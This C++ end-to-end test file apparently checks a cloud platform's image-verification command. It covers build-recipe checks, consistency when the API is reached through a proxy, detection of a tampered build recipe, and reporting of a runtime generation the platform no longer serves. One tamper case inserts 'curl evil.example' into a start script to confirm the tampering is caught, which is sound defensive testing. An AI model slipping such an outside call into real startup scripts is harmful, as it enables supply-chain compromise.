// Verification of images that the platform has built, by the recipe of their build, and of the
// runtime generation of all images.

#include "e2e/liar.h"
#include "e2e/verify_support.h"
#include "ecloud/base/base64.h"
#include "support/catch.h"

using namespace ecloud;
using base::Json;
using testing::changed;
using testing::Findings;
using testing::RunResult;
using testing::VerifyWorld;
using testing::Words;

namespace {

const std::string kCommit = "0123456789abcdef0123456789abcdef01234567";

struct BuiltWorld : VerifyWorld {
  BuiltWorld()
      : VerifyWorld({"--wallet", "kms", "--verifiable", "--repo", "https://github.com/me/app",
                     "--commit", kCommit},
                    "") {}
};

}  // namespace

TEST_CASE("An image that the platform built is judged by its recipe", "[e2e][verify][built]") {
  BuiltWorld world;
  const RunResult run = world.verify();
  const Findings found(run);
  INFO(found.describe());
  CHECK(found.failed().empty());
  CHECK(found.result("image", "manifest") == "verified");
  CHECK(found.text("image", "layered").starts_with("by the platform's builder; "));
  CHECK(found.text("image", "layering") ==
        "the platform built the image: its programs are compared with the recipe of the build");
  for (const char* name : {"recipe", "kms-client", "tls-client", "pinned-client", "runtime",
                           "start-script", "kms-signing-key", "platform-files"}) {
    INFO(name);
    CHECK(found.result("client-binaries", name) == "verified");
  }
  CHECK(found.text("client-binaries", "runtime") ==
        "KMS client and VM image are both of the generation bound-evidence");
  CHECK(found.result("provenance", "build-record") == "verified");
  CHECK(found.result("provenance", "provenance-source") == "verified");
}

TEST_CASE("Images are judged by the environment's own API whichever way it is reached",
          "[e2e][verify][built]") {
  const bool built = GENERATE(true, false);
  const auto world = built ? std::make_unique<BuiltWorld>() : std::make_unique<VerifyWorld>();
  testing::Liar proxy(world->devnet, [](const testing::ServerRequest&, testing::Reply&) {});
  const Findings direct(world->verify());
  const Findings found(world->verify({"--userapi-url", proxy.url("/userapi")}));
  INFO(found.describe());
  CHECK(found.failed().empty());
  for (const char* link : {"image", "client-binaries", "provenance"}) {
    CHECK(found.link(link).dump() == direct.link(link).dump());
  }
  CHECK_FALSE(proxy.requests().empty());
}

TEST_CASE("A recipe of other tools or of another environment is caught", "[e2e][verify][built]") {
  BuiltWorld world;
  const Json bundle = world.bundle();
  const auto with = [&](const std::string& from, const std::string& to) {
    const Json payload = bundle["build"]["payload"];
    std::string text(base::as_chars(*base::from_base64(payload.as_string())));
    REQUIRE(text.find(from) != std::string::npos);
    for (std::size_t at = text.find(from); at != std::string::npos;
         at = text.find(from, at + to.size())) {
      text.replace(at, from.size(), to);
    }
    return Findings(world.offline(
        changed(bundle, {"build", "payload"}, base::to_base64(base::as_bytes(text)))));
  };
  SECTION("nothing is verified on the word of a bundle's maker") {
    const Findings found(world.offline(bundle));
    INFO(found.describe());
    CHECK(found.failed().empty());
    for (const char* name : {"recipe", "kms-client", "start-script", "kms-signing-key"}) {
      CHECK(found.result("client-binaries", name) == "not checked");
    }
  }
  SECTION("another KMS URL") {
    const Findings found = with("/kms\\\"", "/kmz\\\"");
    INFO(found.describe());
    CHECK(found.result("client-binaries", "recipe") == "failed");
    CHECK(found.result("client-binaries", "start-script") == "failed");
  }
  SECTION("a start script with one more line") {
    const Findings found = with("exec \\\"$@\\\"\\n", "curl evil.example\\nexec \\\"$@\\\"\\n");
    INFO(found.describe());
    CHECK(found.text("client-binaries", "start-script") ==
          "it is not the one that the recipe writes");
  }
  SECTION("another client") {
    const std::string client = world.devnet.info()["kmsClientImage"].as_string();
    const std::string tls = world.devnet.info()["tlsClientImage"].as_string();
    const Findings found = with(client.substr(client.find('@')), tls.substr(tls.find('@')));
    INFO(found.describe());
    CHECK(found.result("client-binaries", "kms-client") != "verified");
    CHECK(found.text("client-binaries", "pinned-client").find("environment devnet pins ") !=
          std::string::npos);
  }
  SECTION("a recipe that lacks a step") {
    const Findings found = with("\"extract-deps\"", "\"extract\"");
    INFO(found.describe());
    CHECK(found.text("client-binaries", "recipe") ==
          "the build's recipe cannot be used: it has no step extract-deps");
  }
}

TEST_CASE("A pair that is not served any more is named in verify", "[e2e][verify][runtime]") {
  testing::World base;
  const std::string old = base.devnet.info()["intelTokenTools"]["kmsClientImage"].as_string();
  const auto set = [&](const std::string& key, const std::string& value) {
    REQUIRE(base.user.run({"config", "set", "environments.devnet." + key, value}).code == 0);
  };
  set("kmsClientImage", old);
  set("runtimeGeneration", "intel-token");
  const RunResult deployed = base.user.run({"compute", "app", "deploy", "--name", "hello",
                                            "--image-ref", base.devnet.image("sample/hello:1.0"),
                                            "--allow-old-runtime", "--no-wait", "--json"});
  INFO(deployed.describe());
  REQUIRE(deployed.code == 0);
  const RunResult run =
      base.user.run({"compute", "app", "verify", deployed.json()["appId"].as_string(), "--json"});
  const Findings found(run);
  INFO(found.describe());
  CHECK(found.result("client-binaries", "kms-client") == "verified");
  CHECK(found.text("client-binaries", "runtime") ==
        "KMS client and VM image are both of the generation intel-token, which the platform no "
        "longer serves: the app cannot start again");
  CHECK(found.result("image", "layering") == "verified");
}
